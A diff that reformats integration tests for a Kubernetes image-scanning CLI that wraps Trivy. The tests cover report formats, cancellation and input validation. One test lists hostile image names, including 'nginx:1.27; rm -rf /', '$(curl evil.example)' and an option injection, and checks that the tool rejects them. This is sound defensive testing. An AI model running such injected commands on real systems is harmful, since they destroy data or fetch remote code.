@@ -20,7 +20,9 @@ describe('shipshape cluster', () => {
   let kubeconfig: string;
   const saved = process.env['SHIPSHAPE_CACHE_DIR'];
   before(async () => {
-    server = await startApiServer({ pods: [...generatePods({ count: 30, distinctImages: 6, namespaces: ['shop', 'payments'], seed: 3 }), ...corpusPods()] });
+    server = await startApiServer({
+      pods: [...generatePods({ count: 30, distinctImages: 6, namespaces: ['shop', 'payments'], seed: 3 }), ...corpusPods()],
+    });
     kubeconfig = writeKubeconfig(server);
   });
   after(() => server.stop());
@@ -34,12 +36,16 @@ describe('shipshape cluster', () => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  const cluster = (...args: string[]) => runCli(['cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), ...args]);
+  const cluster = (...args: string[]) =>
+    runCli(['cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), ...args]);
 
   test('JSON: images with digests, workloads and counts; findings with deadlines, worst first', async () => {
     const run = await cluster('--format', 'json');
     assert.equal(run.code, 0, run.stderr);
-    const report = JSON.parse(run.stdout) as { images: { reference: string; digest?: string; workloads: unknown[]; vulnerabilities?: Record<string, number> }[]; findings: { severity: string; deadline: string; breached: boolean; firstSeen: string }[] };
+    const report = JSON.parse(run.stdout) as {
+      images: { reference: string; digest?: string; workloads: unknown[]; vulnerabilities?: Record<string, number> }[];
+      findings: { severity: string; deadline: string; breached: boolean; firstSeen: string }[];
+    };
     assert.equal(report.images.length, expectedImages(server.pods()).size);
     assert.ok(report.images.every((i) => i.workloads.length > 0 && i.vulnerabilities));
     assert.ok(report.findings.length > 0);
@@ -54,10 +60,16 @@ describe('shipshape cluster', () => {
   test('first-seen dates survive between runs; --fail-on-breach with --from-published exits 1', async () => {
     const first = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
     const second = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
-    assert.deepEqual(second.findings.map((f) => f.firstSeen), first.findings.map((f) => f.firstSeen));
+    assert.deepEqual(
+      second.findings.map((f) => f.firstSeen),
+      first.findings.map((f) => f.firstSeen),
+    );
     const breach = await cluster('--from-published', '--fail-on-breach', '--format', 'csv');
     assert.equal(breach.code, 1);
-    assert.match(breach.stdout.split('\r\n')[0]!, /^image,digest,namespaces,workloads,vulnerability,severity,package,installed,fixed,first seen,deadline,breached$/);
+    assert.match(
+      breach.stdout.split('\r\n')[0]!,
+      /^image,digest,namespaces,workloads,vulnerability,severity,package,installed,fixed,first seen,deadline,breached$/,
+    );
     assert.match(breach.stdout, /,true\r\n/);
   });
 
@@ -71,7 +83,11 @@ describe('shipshape cluster', () => {
 
   test("the built CLI's SARIF names this build's version (the one in package.json)", async () => {
     const { version } = JSON.parse(readFileSync(path.resolve(__dirname, '..', '..', 'package.json'), 'utf8')) as { version: string };
-    const { stdout } = await execFileAsync(process.execPath, [CLI, 'cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'sarif'], { env: process.env, maxBuffer: 64 * 1024 * 1024 });
+    const { stdout } = await execFileAsync(
+      process.execPath,
+      [CLI, 'cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'sarif'],
+      { env: process.env, maxBuffer: 64 * 1024 * 1024 },
+    );
     const sarif = JSON.parse(stdout) as { runs: { tool: { driver: { name: string; version: string } } }[] };
     assert.deepEqual(sarif.runs[0]!.tool.driver, { ...sarif.runs[0]!.tool.driver, name: 'Shipshape', version });
     assert.notEqual(version, '0.0.0-dev');
@@ -81,7 +97,24 @@ describe('shipshape cluster', () => {
     // The built CLI in its own process: the test runner has SIGTERM handlers of its own.
     const log = standInLog({ TRIVY_STANDIN_DELAY_MS: '20000' });
     try {
-      const child = spawn(process.execPath, [CLI, 'cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'json', '--concurrency', '2'], { env: process.env });
+      const child = spawn(
+        process.execPath,
+        [
+          CLI,
+          'cluster',
+          '--kubeconfig',
+          kubeconfig,
+          '--trivy',
+          STAND_IN,
+          '--state',
+          path.join(dir, 'state.json'),
+          '--format',
+          'json',
+          '--concurrency',
+          '2',
+        ],
+        { env: process.env },
+      );
       let stdout = '';
       let stderr = '';
       child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
@@ -94,17 +127,31 @@ describe('shipshape cluster', () => {
       const report = JSON.parse(stdout) as { partial?: boolean; images: unknown[]; errors: { image?: string; message: string }[] };
       assert.equal(report.partial, true);
       assert.equal(report.images.length, expectedImages(server.pods()).size, 'the listed images are all in the report');
-      assert.ok(report.errors.some((e) => /^Cancelled: this report is partial; \d+ images were not scanned/.test(e.message)), JSON.stringify(report.errors));
+      assert.ok(
+        report.errors.some((e) => /^Cancelled: this report is partial; \d+ images were not scanned/.test(e.message)),
+        JSON.stringify(report.errors),
+      );
       assert.match(stderr, /this report is partial/);
       await new Promise((r) => setTimeout(r, 300));
-      assert.deepEqual(imageScans(log.invocations()).filter((i) => isAlive(i.pid)).map((i) => i.pid), []);
+      assert.deepEqual(
+        imageScans(log.invocations())
+          .filter((i) => isAlive(i.pid))
+          .map((i) => i.pid),
+        [],
+      );
     } finally {
       log.restore();
     }
   });
 
   test('hostile image names from the cluster are never passed to Trivy; each is an error, the rest is scanned', async () => {
-    const hostile = ['--output=/tmp/owned', 'nginx:1.27; rm -rf /', '$(curl evil.example)', 'nginx\n:1', 'registry.example/app with space:1'];
+    const hostile = [
+      '--output=/tmp/owned',
+      'nginx:1.27; rm -rf /',
+      '$(curl evil.example)',
+      'nginx\n:1',
+      'registry.example/app with space:1',
+    ];
     const base = generatePods({ count: 4, distinctImages: 2, namespaces: ['shop'], seed: 5 });
     const evil = hostile.map((image, i) => {
       const pod = structuredClone(base[0]!);
@@ -116,15 +163,31 @@ describe('shipshape cluster', () => {
     const hostileServer = await startApiServer({ pods: [...base, ...evil] });
     const log = standInLog();
     try {
-      const run = await runCli(['cluster', '--kubeconfig', writeKubeconfig(hostileServer), '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'json']);
+      const run = await runCli([
+        'cluster',
+        '--kubeconfig',
+        writeKubeconfig(hostileServer),
+        '--trivy',
+        STAND_IN,
+        '--state',
+        path.join(dir, 'state.json'),
+        '--format',
+        'json',
+      ]);
       assert.equal(run.code, 0, run.stderr);
-      const report = JSON.parse(run.stdout) as { images: { reference: string; vulnerabilities?: object }[]; errors: { image?: string; message: string }[] };
+      const report = JSON.parse(run.stdout) as {
+        images: { reference: string; vulnerabilities?: object }[];
+        errors: { image?: string; message: string }[];
+      };
       for (const image of hostile) {
         const error = report.errors.find((e) => e.image === image);
         assert.ok(error, `an error for ${JSON.stringify(image)}`);
         assert.match(error.message, /is not a valid image reference: not scanned/);
       }
-      assert.ok(report.images.some((i) => i.vulnerabilities), 'the others are scanned');
+      assert.ok(
+        report.images.some((i) => i.vulnerabilities),
+        'the others are scanned',
+      );
       const argv = imageScans(log.invocations()).flatMap((i) => i.argv);
       assert.ok(argv.length > 0);
       for (const image of hostile) assert.ok(!argv.includes(image), `${JSON.stringify(image)} never reached a process`);
